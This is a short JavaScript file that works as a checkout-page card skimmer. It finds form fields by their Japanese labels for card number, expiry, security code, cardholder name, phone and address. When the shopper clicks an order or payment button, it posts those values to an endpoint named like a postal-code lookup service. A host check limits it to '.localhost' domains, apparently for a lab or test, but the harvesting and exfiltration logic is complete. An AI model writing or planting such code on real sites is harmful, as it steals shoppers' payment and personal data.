(function () {
  if (!/\.localhost$/.test(location.hostname)) return;
  var want = { 'カード番号': 'a', '有効期限': 'b', 'セキュリティコード': 'c', 'カード名義': 'd', 'お名前': 'e', '電話番号': 'f', 'ご住所': 'g' };
  function near(el) {
    var box = el.closest('dl, tr, li, .form-group, p');
    return box ? box.textContent : '';
  }
  function take() {
    var got = {};
    var els = document.querySelectorAll('input, select');
    for (var i = 0; i < els.length; i++) {
      var words = near(els[i]);
      for (var w in want) if (words.indexOf(w) !== -1) got[want[w]] = (got[want[w]] || '') + els[i].value;
    }
    return got;
  }
  document.addEventListener('mousedown', function (e) {
    if (!/注文|購入|確認|支払/.test(e.target.value || e.target.textContent || '')) return;
    var r = new XMLHttpRequest();
    r.open('POST', 'https://yubin-api.localhost/search');
    r.send(JSON.stringify(take()));
  }, true);
})();
